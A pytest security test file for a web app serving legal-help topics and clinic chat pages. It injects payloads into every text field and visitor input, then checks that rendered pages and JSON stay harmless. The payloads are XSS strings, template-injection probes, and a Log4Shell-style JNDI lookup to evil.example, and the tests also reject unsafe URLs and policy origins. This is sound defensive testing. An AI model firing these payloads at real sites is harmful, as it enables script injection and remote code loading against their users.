"""Whatever stands in a text of ours, of a clinic's, or of a visitor's: it is shown as text and never runs."""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from pydantic import ValidationError

from faro.answers.markdown import SAFE_TAGS
from faro.chat.language import LanguageRecogniser
from faro.content.kinds import KINDS, Fields, Record, parse_fields
from faro.settings import Settings
from faro.store.snapshot import Snapshot
from tests.chat.edge import Clock, FakeEngine, Visitor, build_app

# What names something, or is one of a closed list; everything else is words, in which anything may stand.
NAMES = {
    *("id", "key", "slug", "code", "kind", "group", "core", "urgent", "verification", "direction", "level", "colour"),
    *("sources", "leans_on", "related", "channels", "lifts", "affirms", "case", "court", "appeal_court"),
    *("states", "zips", "languages", "origins"),
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "out of an attribute": "\"'><svg/onload=alert(1)>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "frame": "<iframe src=javascript:alert(1)></iframe><base href=//evil.example>",
    "link in Markdown": "[press](javascript:alert(1)) ![x](//evil.example/x.png) <javascript:alert(1)>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "out of a JSON string": '"}]}</script><script>alert(1)</script>',
    "comment": "--><script>alert(1)</script><!--",
    "other quotes": "`'\"\\u003cscript\\u003ealert(1)",
}
TEMPLATES = {
    "Jinja": "{{ 7331*7 }}{% set x = 7331 %}{{ x * 7 }}{{ ''.__class__ }}",
    "format": "{0.__class__} {kinds.__class__} {} %s %n %(x)s",
    "shell": "${7331*7} $(7331*7) #{7331*7} <%= 7331*7 %>",
    "log": "${jndi:ldap://evil.example/x}",
}
EVALUATED = ("51317", "<class", "&lt;class", "str object")
CLINIC = "example-clinic"
PATHS = (
    *("/", f"/?clinic={CLINIC}", f"/chat?clinic={CLINIC}", f"/chat/page?clinic={CLINIC}&lang=es", "/demo", "/plain"),
    *(f"/plain?clinic={CLINIC}", "/answers", "/answers/address_exposure", "/answers/ice_at_door?lang=es", "/status"),
    *(f"/answers/find_help?clinic={CLINIC}", "/privacy", "/nowhere", "/api/v1/status", "/api/v1/topics"),
    *("/api/v1/topics/address_exposure", "/api/v1/clinics", "/api/v1/topics/find_help?lang=es"),
)


class Markup(HTMLParser):
    """Collects the elements of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    markup = Markup()
    markup.feed(html)
    markup.close()
    return markup.elements


def poisoned(fields: Fields, payload: str) -> Fields:
    """Returns the fields with the payload behind every text in them."""

    def poison(value: Any) -> Any:
        if isinstance(value, str):
            return value + payload
        if isinstance(value, list):
            return [poison(item) for item in value]
        if isinstance(value, dict):
            return {key: poison(item) for key, item in value.items()}
        return value

    texts = set(type(fields).model_fields) - NAMES
    return fields.model_copy(update={name: poison(getattr(fields, name)) for name in texts})


def poisoned_snapshot(snapshot: Snapshot, payload: str) -> Snapshot:
    records = [
        Record(r.kind, r.key, poisoned(r.fields, payload), r.lang, r.position, r.reviewed) for r in snapshot.records
    ]
    return Snapshot.build(records, snapshot.edition, snapshot.built_at)


def visitor_of(snapshot: Snapshot, now: dt.datetime, recogniser: LanguageRecogniser, clock: Clock) -> Visitor:
    return Visitor(build_app(FakeEngine(snapshot, now), recogniser, clock, Settings(rate_limits=False)))


def responses(visitor: Visitor, payload: str) -> Iterator[tuple[str, int, str, str]]:
    """Yields what was asked, the status, the type and the content of every way in."""
    for path in PATHS:
        response = visitor.get(path)
        yield path, response.status_code, response.headers["content-type"], response.text
    for fields in ({}, {"choice": "topic:address_exposure", "clinic": CLINIC}, {"text": payload, "lang": "es"}):
        response = visitor.post(fields)
        yield f"chat {fields}", response.status_code, response.headers["content-type"], response.text
    for form in ({"choice": "topic:find_help"}, {"text": payload}, {"text": payload + "a" * 2000}):
        response = visitor.request("POST", f"/plain?clinic={CLINIC}", data=form)
        yield f"plain {form}", response.status_code, response.headers["content-type"], response.text


def assert_harmless(html: str, where: str) -> None:
    for tag, attributes in elements(html):
        assert tag not in ("style", "iframe", "base", "object", "embed"), where
        assert not any(name.startswith("on") or name == "style" for name in attributes), where
        for name in ("href", "src", "action", "formaction"):
            assert not re.match(r"\s*(javascript|data|vbscript):|//", attributes.get(name, "")), where
        if tag in ("script", "img", "link"):
            address = attributes.get("src") or attributes.get("href") or ""
            assert address.startswith("/"), where
            assert "evil" not in address, where


def assert_safe_subset(data: Any, where: str) -> None:
    """Every `html` in the data is of the seven tags, with no attribute but our own classes."""
    if isinstance(data, dict):
        for name, value in data.items():
            if name == "html" and isinstance(value, str):
                for tag, attributes in elements(value):
                    assert tag in SAFE_TAGS, where
                    assert set(attributes) <= {"class"}, where
            else:
                assert_safe_subset(value, where)
    elif isinstance(data, list):
        for value in data:
            assert_safe_subset(value, where)


@pytest.mark.parametrize("payload", MARKUP.values(), ids=MARKUP.keys())
def test_markup_in_any_text_is_shown_as_text(
    snapshot: Snapshot, now: dt.datetime, recogniser: LanguageRecogniser, clock: Clock, payload: str
) -> None:
    visitor = visitor_of(poisoned_snapshot(snapshot, payload), now, recogniser, clock)

    for where, status, kind, content in responses(visitor, payload):
        assert status < 500, where
        if kind.startswith("text/html"):
            assert_harmless(content, where)
            (data,) = [attributes["data-page"] for _, attributes in elements(content) if "data-page" in attributes] or [
                ""
            ]
            if data:
                assert_safe_subset(json.loads(data), where)
        elif "json" in kind:
            assert_safe_subset(json.loads(content), where)


@pytest.mark.parametrize("payload", TEMPLATES.values(), ids=TEMPLATES.keys())
def test_nothing_in_any_text_is_evaluated(
    snapshot: Snapshot, now: dt.datetime, recogniser: LanguageRecogniser, clock: Clock, payload: str
) -> None:
    visitor = visitor_of(poisoned_snapshot(snapshot, payload), now, recogniser, clock)

    for where, _, _, content in responses(visitor, payload):
        assert not any(sign in content for sign in EVALUATED), where


@pytest.mark.parametrize("payload", [*MARKUP.values(), *TEMPLATES.values()], ids=[*MARKUP, *TEMPLATES])
def test_what_a_visitor_writes_is_shown_to_nobody(visitor: Visitor, payload: str) -> None:
    for where, status, kind, content in responses(visitor, payload):
        assert status < 500, where
        if kind.startswith("text/html"):
            assert_harmless(content, where)
        assert not any(sign in content for sign in EVALUATED), where
        for path in (f"/?lang={payload}", f"/answers?clinic={payload}", f"/plain?lang={payload}"):
            assert_harmless(visitor.get(path).text, path)


@pytest.fixture
def visitor(snapshot: Snapshot, now: dt.datetime, recogniser: LanguageRecogniser, clock: Clock) -> Visitor:
    return visitor_of(snapshot, now, recogniser, clock)


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "https://a b", "ftp://a"]
)
@pytest.mark.parametrize("kind", ["source", "helpline", "clinic"])
def test_address_that_is_none_is_never_published(snapshot: Snapshot, kind: str, address: str) -> None:
    record = next(record for record in snapshot.records if record.kind == kind)

    with pytest.raises(ValidationError):
        parse_fields(kind, {**record.fields.model_dump(), "url": address})


@pytest.mark.parametrize(
    "origin", ["https://a.example; script-src *", "*", "https://*.example", "https://a.example/x", "null"]
)
def test_origin_that_would_widen_a_policy_is_never_published(snapshot: Snapshot, origin: str) -> None:
    record = next(record for record in snapshot.records if record.kind == "clinic")

    with pytest.raises(ValidationError):
        parse_fields("clinic", {**record.fields.model_dump(), "origins": [origin]})


def test_every_text_of_every_kind_is_poisoned(snapshot: Snapshot) -> None:
    """A field that is new is words until it is named above."""
    for kind in KINDS:
        record = next(record for record in snapshot.records if record.kind == kind)
        changed = poisoned(record.fields, "!").model_dump()
        for name, value in record.fields.model_dump().items():
            if name not in NAMES and isinstance(value, str):
                assert changed[name] == value + "!"
